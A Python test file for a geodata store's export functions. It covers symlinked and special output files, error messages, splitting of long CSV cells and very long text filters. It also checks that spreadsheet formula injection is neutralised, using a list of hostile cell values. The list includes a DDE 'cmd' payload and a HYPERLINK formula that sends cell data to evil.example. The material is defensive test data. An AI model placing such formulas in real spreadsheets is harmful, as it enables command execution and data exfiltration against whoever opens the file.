"""Exports that cannot destroy what they write over, cannot carry spreadsheet formulas, fit every
cell in a spreadsheet, and filters of any length; each on the real file system and both backends."""

from __future__ import annotations

import csv
import os
import socket
import stat
from pathlib import Path

import pytest
import shapely

from geo.errors import InputError
from geo.store.exchange import CELL_LIMIT, FORMULA_STARTS, export_events, guard_cell, import_file, unguard_cell
from geo.store.factory import open_store
from tests.store_helpers import make_event, same

pytest_plugins = ["tests.store_backends"]


def _events() -> list:
    return [make_event("a"), make_event("b", lon=-6.35, lat=-36.64)]


# -- where an export may write ---------------------------------------------------------------------------
@pytest.mark.parametrize("fmt", ["geojson", "csv", "kml", "gpkg"])
def test_a_symlinked_output_stays_a_link_and_its_target_is_replaced(tmp_path, fmt):
    target = tmp_path / "real" / f"target.{fmt}"
    target.parent.mkdir()
    target.write_text("old contents")
    link = tmp_path / f"link.{fmt}"
    link.symlink_to(target)
    chained = tmp_path / f"chained.{fmt}"
    chained.symlink_to(link)
    export_events(_events(), chained)
    assert chained.is_symlink() and link.is_symlink() and os.readlink(link) == str(target)
    assert target.is_file() and target.read_bytes() != b"old contents"
    assert sorted(p.name for p in target.parent.iterdir()) == [target.name]  # no temporary file left
    from geo.store.exchange import read_events

    assert [e.id for e in read_events(chained)] == ["ev-a", "ev-b"]


def test_a_dangling_link_gets_its_target_written(tmp_path):
    target = tmp_path / "later" / "events.csv"
    link = tmp_path / "events.csv"
    link.symlink_to(target)
    export_events(_events(), link)
    assert link.is_symlink() and target.is_file()


def _fifo(path: Path) -> Path:
    os.mkfifo(path)
    return path


def _socket(path: Path) -> Path:
    listener = socket.socket(socket.AF_UNIX)
    listener.bind(str(path))
    listener.close()
    return path


def _null_device(path: Path) -> Path:
    """A character device like /dev/null, made in the test's folder (the real one is never touched)."""
    if os.geteuid() != 0:
        pytest.skip("making a device node needs root")
    os.mknod(path, stat.S_IFCHR | 0o666, os.makedev(1, 3))
    return path


@pytest.mark.parametrize(("make", "kind"), [(_fifo, "a named pipe"), (_socket, "a socket"),
                                            (_null_device, "a character device")])
def test_special_files_are_refused_and_left_as_they_were(tmp_path, make, kind):
    special = make(tmp_path / "special.csv")
    mode = special.lstat().st_mode
    with pytest.raises(InputError, match=f"is {kind}.*, not a regular file"):
        export_events(_events(), special)
    assert special.lstat().st_mode == mode  # it used to be replaced by a regular file
    link = tmp_path / "to-special.csv"
    link.symlink_to(special)
    with pytest.raises(InputError, match=f"is {kind}"):
        export_events(_events(), link)
    assert link.is_symlink() and special.lstat().st_mode == mode
    assert sorted(p.name for p in tmp_path.iterdir()) == ["special.csv", "to-special.csv"]


def test_unwritable_places_are_clear_one_line_errors(tmp_path):
    folder = tmp_path / "events.geojson"
    folder.mkdir()
    with pytest.raises(InputError, match="is a folder; give the name of a file"):
        export_events(_events(), folder)
    a_file = tmp_path / "notes.txt"
    a_file.write_text("not a folder")
    with pytest.raises(InputError, match=r"cannot write .*notes.txt/out.csv: Not a directory"):
        export_events(_events(), a_file / "out.csv")
    for unwritable in ("/proc/fpm-export-test.csv", "/proc/fpm-export-test/out.csv"):  # even for root
        with pytest.raises(InputError, match=f"cannot write {unwritable}: the folder /proc.* cannot be created or "
                                             "written to"):
            export_events(_events(), unwritable)
        assert not Path(unwritable).exists()


def test_the_cli_reports_an_output_folder_in_one_line(store_url, tmp_path, capsys):
    from geo.cli.program import main

    with open_store(store_url) as store:
        store.import_events(_events(), editor="t")
    (tmp_path / "out.csv").mkdir()
    assert main(["export", "--database", store_url, "-o", str(tmp_path / "out.csv")]) == 2
    err = capsys.readouterr().err
    assert err.startswith("error: ") and err.count("\n") == 1 and "is a folder" in err


# -- CSV for spreadsheets ----------------------------------------------------------------------------------
HOSTILE = ["=cmd|'/C calc'!A0", '=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+1", "-2+3", "@SUM(A1)",
           "\tindented", "\rreturn", "'=already quoted", "''two quotes", "'", "'plain quote", "fine = text"]


def _hostile_events() -> list:
    events = []
    for number, text in enumerate(HOSTILE):
        event = make_event(f"h{number}", notes=text, sentence=text or "x", lon=-170.5 + number, lat=-45.25)
        event.source.headline = text
        event.source.outlet = text
        events.append(event)
    events.append(make_event("dash").copy(id="-leading-dash"))
    return events


def test_guard_cell_is_undone_exactly_by_unguard_cell():
    samples = [*HOSTILE, "", "'", "''", "'''", "=", "'=", "''=", "plain", "'\t", "-", "-5.5", "'-5.5"]
    for text in samples:
        guarded = guard_cell(text)
        assert not guarded.startswith(FORMULA_STARTS), text
        assert unguard_cell(guarded) == text, text
    assert guard_cell("plain") == "plain" and guard_cell("'plain quote") == "'plain quote"  # left as typed


def test_exported_csv_has_no_live_formula_and_round_trips_exactly(store, new_store_url, tmp_path):
    originals = _hostile_events()
    store.import_events(originals, editor="t")
    path = export_events(store.query(), tmp_path / "hostile.csv")
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert "'=cmd|'/C calc'!A0" in cells and "'-leading-dash" in cells
    assert any(cell.startswith("POINT (-170.5 -45.25") for cell in cells)  # negative coordinates stay numbers
    with open_store(new_store_url()) as target:
        import_file(target, path, editor="t")
        restored = {e.id: e for e in target.query()}
    for original in originals:
        assert same(restored[original.id], original), original.id


def _utf16_units(text: str) -> int:
    return len(text.encode("utf-16-le", "surrogatepass")) // 2


def test_long_values_continue_in_part_columns_and_come_back_whole(store, new_store_url, tmp_path):
    coast = shapely.Polygon([(10 + 0.001 * i, 50 + (i % 2) * 0.0001234567) for i in range(6000)]
                            + [(16.0, 49.0), (10.0, 49.0)])
    assert coast.is_valid and len(coast.wkt) > 3 * CELL_LIMIT
    long_note = "=" + "🛳 ships, " * 9000  # astral characters count twice in a spreadsheet's UTF-16
    originals = [make_event("coast", geometry=coast), make_event("note", notes=long_note), make_event("short")]
    store.import_events(originals, editor="t")
    path = export_events(store.query(), tmp_path / "long.csv")
    with path.open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    header = rows[0]
    assert "geometry (part 2)" in header and "notes (part 2)" in header
    assert header.index("notes (part 2)") == header.index("notes") + 1
    assert max(_utf16_units(cell) for row in rows for cell in row) <= CELL_LIMIT
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]
    with open_store(new_store_url()) as target:
        import_file(target, path, editor="t")
        restored = {e.id: e for e in target.query()}
    for original in originals:
        assert same(restored[original.id], original), original.id


def test_a_normal_csv_export_has_exactly_the_usual_columns(tmp_path):
    from geo.store.exchange import FLAT_COLUMNS

    path = export_events(_events(), tmp_path / "plain.csv")
    with path.open(encoding="utf-8", newline="") as handle:
        assert next(csv.reader(handle)) == [*FLAT_COLUMNS, "geometry"]


# -- filters of any length ------------------------------------------------------------------------------------
def test_a_text_filter_of_thousands_of_words_is_answered(store):
    words = [f"word{n}" for n in range(1500)]
    store.import_events([make_event("wordy", sentence=" ".join(words)), make_event("other")], editor="t")
    assert [e.id for e in store.query(text=" ".join(words))] == ["ev-wordy"]
    assert store.query(text=" ".join([*words, "absent"])) == []
    assert store.query(text=" ".join(f"missing{n}" for n in range(5000))) == []  # "Expression tree is too large"
    assert [e.id for e in store.query(text="WORD7 word7 word7")] == ["ev-wordy"]
    assert store.weekly_counts(text=" ".join(words))[0].events == 1
    assert store.posture("2024-05-01", text=" ".join(words))
    assert [e.id for e in store.query(actors=["US"] * 3000, categories=["fighter"] * 3000)] == ["ev-other",
                                                                                                  "ev-wordy"]


def test_the_cli_exports_with_a_5000_word_text_filter(store_url, tmp_path, capsys):
    from geo.cli.program import main

    with open_store(store_url) as store:
        store.import_events(_events(), editor="t")
    words = " ".join(f"w{n}" for n in range(5000))
    assert main(["export", "--database", store_url, "--text", words, "-o", str(tmp_path / "none.geojson")]) == 0
    assert "wrote 0 events" in capsys.readouterr().out
